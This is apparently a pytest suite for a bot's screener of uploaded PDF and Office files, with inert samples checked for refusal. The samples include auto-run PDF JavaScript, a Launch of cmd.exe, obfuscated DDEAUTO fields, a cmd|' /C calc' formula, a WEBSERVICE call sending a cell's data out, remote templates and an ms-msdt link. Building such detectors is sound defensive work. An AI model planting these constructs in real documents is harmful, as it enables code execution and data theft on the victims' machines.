"""Documents that carry code, other files or ties to somebody's machine, and those that only look so."""

import io
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from matplotlib.figure import Figure
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, Pdf, String

from bot.aside import Aside
from bot.child import KNOWN
from bot.judge import judge
from bot.refused import Refused
from tests.made import EXCEL, PDF, WORD, office, old_office, paper, picture, related

LOCKED = (Path(__file__).parents[1] / "files" / "user_password.pdf").read_bytes()
SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def saved(pdf: Pdf, **how: Any) -> bytes:
    made = io.BytesIO()
    pdf.save(made, **how)
    return made.getvalue()


def written(catalogue: Mapping[str, Any] = {}, page: Mapping[str, Any] = {}, pages: int = 1, **how: Any) -> bytes:
    """A PDF by qpdf, with more in its catalogue or its first page."""
    pdf = Pdf.new()
    for _ in range(pages):
        pdf.add_blank_page()
    for key, value in catalogue.items():
        pdf.Root[key] = value
    for key, value in page.items():
        pdf.pages[0].obj[key] = value
    return saved(pdf, **how)


def note(kind: str, **more: Any) -> dict[str, Any]:
    """An annotation on a page."""
    return {"/Annots": Array([Dictionary(Type=Name.Annot, Subtype=Name("/" + kind), Rect=Array([0, 0, 9, 9]), **more)])}


def drawn() -> bytes:
    figure, made = Figure(), io.BytesIO()
    figure.add_subplot().plot([1, 2, 3])
    figure.savefig(made, format="pdf")
    return made.getvalue()


def attached(inner: bytes = b"halo") -> Pdf:
    pdf = Pdf.new()
    pdf.add_blank_page()
    pdf.attachments["a.pdf"] = inner
    return pdf


def later(first: bytes, number: int, content: bytes) -> bytes:
    """The same file with one object changed behind its end, as a signing program does it."""
    place = first.rindex(b"startxref\n") + len(b"startxref\n")
    before = int(first[place:].split()[0])
    table = b"xref\n%d 1\n%010d 00000 n \n" % (number, len(first))
    changed = b"%d 0 obj\n%b\nendobj\n" % (number, content)
    tail = b"trailer\n<</Size 9/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (before, len(first) + len(changed))
    return first + changed + table + tail


PACKED: dict[str, Any] = {"object_stream_mode": ObjectStreamMode.generate}
OWNER = Encryption(owner="rahasia", user="", R=6)
GOTO = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))
LINK = note("Link", A=Dictionary(S=Name.URI, URI=String("https://contoh.go.id/JavaScript")))
FILLED = Dictionary(Fields=Array([Dictionary(FT=Name.Tx, T=String("nama"), V=String("Siti"))]))

WELCOME_PDF = {
    "as its specification spells it": PDF,
    "with what another program left behind it": PDF + b"\r\n\0\0",
    "of a plotter": drawn(),
    "of a scanner": picture("PDF", (300, 400)),
    "with packed objects": written(pages=3, **PACKED),
    "for the web": written(pages=3, linearize=True),
    "with a changed page": later(PDF, 3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>"),
    "without a table of its places": PDF[: PDF.index(b"xref")] + b"trailer\n<</Size 4/Root 1 0 R>>\n%%EOF\n",
    "that only forbids editing": written(encryption=OWNER),
    "that only forbids editing, the old way": written(
        encryption=Encryption(owner="rahasia", user="", R=3, aes=False, metadata=False)
    ),
    "that opens at a page": written({"/OpenAction": GOTO}),
    "that opens at a place": written({"/OpenAction": Array([0, Name.FitH, 700])}),
    "with a link to the web": written(page=LINK),
    "with a link to the author's own disk": paper(b"/X<</S/URI/URI(file:///C:/Users/siti/surat.doc)>>"),
    "with a form that was filled in": written({"/AcroForm": FILLED}),
    "with an empty list of scripts": written({"/Names": Dictionary(JavaScript=Dictionary(Names=Array([])))}),
    "that writes about JavaScript": written({"/Title": String("/JavaScript /Launch /EmbeddedFile")}),
}
REFUSED_PDF = {
    "with a script at its start": (written({"/OpenAction": SCRIPT}), "active"),
    "with a script in packed objects": (written({"/OpenAction": SCRIPT}, **PACKED), "active"),
    "with a script that nobody may edit": (written({"/OpenAction": SCRIPT}, encryption=OWNER, **PACKED), "active"),
    "with a script for the web": (written({"/OpenAction": SCRIPT}, linearize=True), "active"),
    "with a script by another spelling": (paper(b"/OpenAction<</S/J#61vaScript/J#53 (app.alert\\(1\\))>>"), "active"),
    "with a script in a stream": (
        paper(b"/OpenAction<</S/X/JS 4 0 R>>", b"<</Length 1>>\nstream\n1\nendstream"),
        "active",
    ),
    "with a script in its names": (
        written({"/Names": Dictionary(JavaScript=Dictionary(Names=Array([String("a"), SCRIPT])))}),
        "active",
    ),
    "with a script when a page opens": (written(page={"/AA": Dictionary(O=SCRIPT)}), "active"),
    "with a script after another action": (written({"/OpenAction": Dictionary(S=Name.GoTo, Next=SCRIPT)}), "active"),
    "with a script behind its end": (later(PDF, 1, b"<</Pages 2 0 R/OpenAction<</S/JavaScript/JS(1)>>>>"), "active"),
    "with a script in its own trailer": (PDF.replace(b"<</Size", b"<</X<</S/JavaScript>>/Size"), "active"),
    "that starts a program": (written(page=note("Link", A=Dictionary(S=Name.Launch, F=String("cmd.exe")))), "active"),
    "that sends what one types": (written(page=note("Link", A=Dictionary(S=Name.SubmitForm))), "active"),
    "that draws in data": (written(page=note("Link", A=Dictionary(S=Name.ImportData))), "active"),
    "with a form of scripts": (written({"/AcroForm": Dictionary(XFA=String("<xdp/>"))}), "active"),
    "with a film that is a program": (written(page=note("RichMedia")), "active"),
    "with a model that is a program": (written(page=note("3D")), "active"),
    "with a file in it": (saved(attached()), "carries"),
    "with a PDF in it, packed": (saved(attached(PDF), **PACKED), "carries"),
    "with a file in it that nobody may edit": (saved(attached(), encryption=OWNER), "carries"),
    "with a file pinned to a page": (written(page=note("FileAttachment")), "carries"),
    "that is a folder of files": (written({"/Collection": Dictionary(Type=Name.Collection)}), "carries"),
    "that opens another": (written(page=note("Link", A=Dictionary(S=Name.GoToR, F=String("b.pdf")))), "elsewhere"),
    "that opens one within": (written(page=note("Link", A=Dictionary(S=Name.GoToE))), "elsewhere"),
    "that asks a file server": (paper(b"/X<</S/URI/URI(file://10.0.0.1/a)>>"), "elsewhere"),
    "that asks a share": (paper(b"/X<</S/URI/URI(\\\\\\\\10.0.0.1\\\\a)>>"), "elsewhere"),
    "that calls a script by a link": (paper(b"/X<</S/URI/URI(java\nscript:alert\\(1\\))>>"), "elsewhere"),
    "whose picture lies elsewhere": (paper(b"<</Length 0/F(b.bin)>>\nstream\n\nendstream"), "elsewhere"),
    "with a password": (LOCKED, "locked"),
    "with a password of today": (written(encryption=Encryption(owner="a", user="b", R=6)), "locked"),
    "for the holder of a key": (PDF.replace(b"/Root", b"/Encrypt<</Filter/Adobe.PubSec/V 4>>/Root"), "locked"),
    "without a page": (written(pages=0), "empty"),
    "that ends early": (drawn()[:400], "broken"),
    "of nothing but its first line": (b"%PDF-1.7\n", "broken"),
    "of noise": (b"%PDF-1.7\n" + bytes(range(256)) * 40, "broken"),
    "whose pages turn in a circle": (PDF.replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"), "broken"),
    "that another reader mends otherwise": (
        PDF[: PDF.index(b"xref")] + b"9 0 objx <</S/Java#53cript>>\n%%EOF\n",
        "active",
    ),
}

DOCUMENT = '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{}</w:document>'
BEGIN, MIDDLE, END = (f'<w:r><w:fldChar w:fldCharType="{mark}"/></w:r>' for mark in ("begin", "separate", "end"))


def told(*words: str) -> str:
    return "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words)


def letter(inside: str = "", **parts: bytes) -> bytes:
    """A Word file; further parts by their name with dots for slashes."""
    named = {name.replace("__", "/"): content for name, content in parts.items()}
    return office(parts={"word/document.xml": DOCUMENT.format(inside).encode()} | named)


def tied(
    kind: str, target: str, outside: bool = True, main: str = WORD, place: str = "word/_rels/document.xml.rels"
) -> bytes:
    return office(main, {place: related(kind, target, outside)})


def sheet(formula: str = "", **parts: bytes) -> bytes:
    cells = f"<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"
    named = {name.replace("__", "/"): content for name, content in parts.items()}
    return office(EXCEL, {"xl/worksheets/sheet1.xml": cells.encode()} | named)


def workbook() -> bytes:
    """As openpyxl writes it: a formula, a link, a chart."""
    book, made = Workbook(), io.BytesIO()
    page = book.worksheets[0]
    page.append(["Kajen", 3, "=SUM(B1:B2)", "='Rapat|Bulan'!A1", '=HYPERLINK("https://contoh.go.id","a|b")'])
    page["A1"].hyperlink = "https://contoh.go.id"
    chart = BarChart()
    chart.add_data(Reference(page, min_col=2, min_row=1, max_row=2))
    page.add_chart(chart)
    book.save(made)
    return made.getvalue()


PAGE_NUMBER = BEGIN + told(" PA", "GE ") + MIDDLE + "<w:r><w:t>1</w:t></w:r>" + END
NESTED = BEGIN + told(" IF ") + PAGE_NUMBER + told(' = 1 "LINK" ') + END
WELCOME_OFFICE = {
    "a letter with page numbers": letter(PAGE_NUMBER + NESTED),
    "a letter with a link": tied("hyperlink", "https://contoh.go.id"),
    "a letter with a link to the author's own disk": tied("hyperlink", r"file:///C:\Users\siti\surat.docx"),
    "a letter with a picture": tied("image", "media/image1.png", outside=False),
    "a letter of a template of its own machine": letter(word__settings=b"<w:settings/>"),
    "a letter in UTF-16": office(parts={"word/document.xml": DOCUMENT.format("DDE").encode("utf-16")}),
    "a letter that writes of DDEAUTO": letter("<w:r><w:t>DDEAUTO cmd.exe | LINK</w:t></w:r>"),
    "a sheet of openpyxl": workbook(),
    "a sheet with a bar in quotes": sheet("\"a|b\"&amp;'c|d'!A1"),
    "an old letter about DDE": old_office("WordDocument") + b"\r DDE dan DDEAUTO \r",
    "an old letter with a link": old_office("WordDocument") + "http://contoh.go.id/a.doc".encode("utf-16-le"),
}
REFUSED_OFFICE = {
    "a letter with a template elsewhere": (
        tied("attachedTemplate", "https://x.example/a.dotm", place="word/_rels/settings.xml.rels"),
        "elsewhere",
    ),
    "a letter with a template on a share": (tied("attachedTemplate", r"\\10.0.0.1\a.dotm"), "elsewhere"),
    "a letter with a picture elsewhere": (tied("image", "https://x.example/a.png"), "elsewhere"),
    "a letter with a frame elsewhere": (tied("frame", "https://x.example/a"), "elsewhere"),
    "a letter with a link to a share": (tied("hyperlink", r"\\10.0.0.1\a"), "elsewhere"),
    "a letter with a link that starts a program": (tied("hyperlink", "ms-msdt:/id PCWDiagnostic"), "elsewhere"),
    "a letter with an object elsewhere": (tied("oleObject", "mhtml:https://x.example/a!x"), "carries"),
    "a letter with an object": (tied("oleObject", "embeddings/oleObject1.bin", outside=False), "carries"),
    "a letter with an object by another name": (
        letter(word__media__image1=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        "carries",
    ),
    "a letter with a control": (tied("control", "activeX/activeX1.xml", outside=False), "carries"),
    "a letter with a page in it": (tied("aFChunk", "a.html", outside=False), "carries"),
    "a letter with ties by another name": (letter(word__rels=related("image", "https://x.example/a")), "elsewhere"),
    "a letter with ties in UTF-16": (
        office(
            parts={
                "word/_rels/a.rels": related("image", "https://x.example")
                .decode()
                .replace("UTF-8", "UTF-16")
                .encode("utf-16")
            }
        ),
        "elsewhere",
    ),
    "a letter that starts a program": (letter(BEGIN + told(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k"') + END), "active"),
    "a letter that starts one in pieces": (letter(BEGIN + told("D", "D", "E", "AUTO cmd") + MIDDLE + END), "active"),
    "a letter that starts one in one line": (letter('<w:fldSimple w:instr=" dde cmd a b"/>'), "active"),
    "a letter that hides what it starts": (
        letter(BEGIN + BEGIN + told("QUOTE 68 68 69") + END + told(" cmd") + END),
        "active",
    ),
    "a letter that draws in another": (letter(BEGIN + told("INCLUDETEXT a.docx") + END), "active"),
    "a letter with words of its own": (
        office(parts={"word/document.xml": b'<!DOCTYPE a [<!ENTITY d "DDE">]><a>&d;</a>'}),
        "broken",
    ),
    "a letter that is torn inside": (office(parts={"word/document.xml": b"<w:document><w:p>"}), "broken"),
    "a letter with a sheet with an object": (
        office(parts={"word/embeddings/a.xlsx": tied("oleObject", "a.bin", False, EXCEL)}),
        "carries",
    ),
    "a sheet that asks another": (
        tied("externalLink", "externalLinks/a.xml", False, EXCEL, "xl/_rels/workbook.xml.rels"),
        "elsewhere",
    ),
    "a sheet that asks a server": (
        tied("connections", "connections.xml", False, EXCEL, "xl/_rels/workbook.xml.rels"),
        "elsewhere",
    ),
    "a sheet with an object": (tied("oleObject", "../embeddings/a.bin", False, EXCEL), "carries"),
    "a sheet that asks a program": (
        sheet(xl__externalLinks__a=b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
        "active",
    ),
    "a sheet that starts a program": (sheet("cmd|' /C calc'!A0"), "active"),
    "a sheet that calls the web": (sheet('WEBSERVICE("https://x.example/"&amp;A1)'), "active"),
    "a sheet with a name that runs": (
        sheet(xl__workbook=b'<workbook><definedName name="a">EXEC("calc")</definedName></workbook>'),
        "active",
    ),
    "a sheet with macros of 1992": (office(EXCEL, {"xl/macrosheets/sheet1.xml": b"<a/>"}), "macro"),
    "a sheet with such macros elsewhere": (tied("xlMacrosheet", "a.xml", False, EXCEL), "macro"),
    "slides with an object": (
        tied(
            "oleObject",
            "a.bin",
            False,
            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        ),
        "type",
    ),
    "an old letter with a packed file": (old_office("WordDocument", "\1Ole10Native"), "carries"),
    "an old letter with an object": (old_office("WordDocument", "ObjectPool", "\3ObjInfo"), "carries"),
    "an old letter with a formula that is a program": (old_office("WordDocument", "Equation Native"), "carries"),
    "an old letter that starts a program": (old_office("WordDocument") + b"\x13 DDEAUTO cmd \x14\x15", "active"),
    "an old letter that starts one in wide letters": (
        old_office("WordDocument") + "\x13DDE cmd".encode("utf-16-le"),
        "active",
    ),
    "an old letter with a template elsewhere": (
        old_office("WordDocument") + r"\\10.0.0.1\a\mal.dotm".encode("utf-16-le"),
        "elsewhere",
    ),
    "an old sheet with an object": (old_office("Workbook", "MBD0012ABCD"), "carries"),
    "an old sheet with macros of 1992": (
        old_office("Workbook") + b"\x85\0\x0e\0\x10\0\0\0\0\1\6\0Makro1",
        "macro",
    ),
}
WELCOME = WELCOME_PDF | WELCOME_OFFICE
REFUSED = REFUSED_PDF | REFUSED_OFFICE


@pytest.mark.parametrize("case", WELCOME)
def test_a_document_that_is_only_a_document_is_welcome(tmp_path: Path, case: str) -> None:
    assert judge(kept(tmp_path, WELCOME[case])).startswith("application/")


@pytest.mark.parametrize("case", REFUSED)
def test_a_document_that_does_something_is_refused(tmp_path: Path, case: str) -> None:
    content, expected = REFUSED[case]
    with pytest.raises(Refused) as refused:
        judge(kept(tmp_path, content))
    assert refused.value.reason == expected


def test_packed_objects_that_cannot_be_opened_are_not_taken_on_trust(tmp_path: Path) -> None:
    packed = written(pages=3, object_stream_mode=ObjectStreamMode.generate, compress_streams=True)
    place = packed.index(b"stream\n", packed.index(b"/ObjStm")) + len(b"stream\n")
    torn = packed[:place] + b"\xff" * 20 + packed[place + 20 :]
    with pytest.raises(Refused) as refused:
        judge(kept(tmp_path, torn))
    assert refused.value.reason == "broken"


async def test_a_child_tells_what_a_document_is_and_why_it_is_refused(tmp_path: Path) -> None:
    assert await Aside().judge(kept(tmp_path, PDF)) == "application/pdf"
    with pytest.raises(Refused) as refused:
        await Aside().judge(kept(tmp_path, LOCKED))
    assert refused.value.reason == "locked"


BURSTS = "import os, signal; os.kill(os.getpid(), signal.SIGSEGV)"
HUNGRY = "import bot.judge_alone as a; a.keep_within_limits(); bytes(2 * a.MEMORY)"
BUSY = "import bot.judge_alone as a; a.SECONDS = 1; a.keep_within_limits()\nwhile True: pass"


@pytest.mark.parametrize("program", [BURSTS, BUSY], ids=["bursts", "never ends"])
async def test_a_reader_that_fails_over_a_file_refuses_it(tmp_path: Path, program: str) -> None:
    with pytest.raises(Refused) as refused:
        await Aside((sys.executable, "-c", program)).judge(kept(tmp_path, PDF))
    assert refused.value.reason == "broken"


async def test_a_reader_gets_little_memory(tmp_path: Path) -> None:
    with pytest.raises(OSError, match="ended with 1"):
        await Aside((sys.executable, "-c", HUNGRY)).judge(kept(tmp_path, PDF))


async def test_a_reader_that_hangs_is_ended_and_the_file_tried_again(tmp_path: Path) -> None:
    with pytest.raises(TimeoutError):
        await Aside((sys.executable, "-c", "import time; time.sleep(60)"), limit=0.5).judge(kept(tmp_path, PDF))


async def test_a_reader_knows_nothing_of_ours(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TELEGRAM_TOKEN", "1:rahasia")
    program = f"import os; print('type', sorted(set(os.environ) - {set(KNOWN) | {'LC_CTYPE'}!r}))"
    assert await Aside((sys.executable, "-c", program)).judge(kept(tmp_path, PDF)) == "[]"


async def test_the_office_itself_never_loads_the_reader(tmp_path: Path) -> None:
    """What is loaded stays: the office is small because others read for it."""
    program = """import asyncio, sys, bot.app
from bot.aside import Aside
from pathlib import Path
assert asyncio.run(Aside().judge(Path(sys.argv[1]))) == "application/pdf"
print("type", {"pikepdf", "lxml"} & set(sys.modules))"""
    assert await Aside((sys.executable, "-c", program)).judge(kept(tmp_path, PDF)) == "set()"


def kept(folder: Path, content: bytes) -> Path:
    path = folder / "file"
    path.write_bytes(content)
    return path
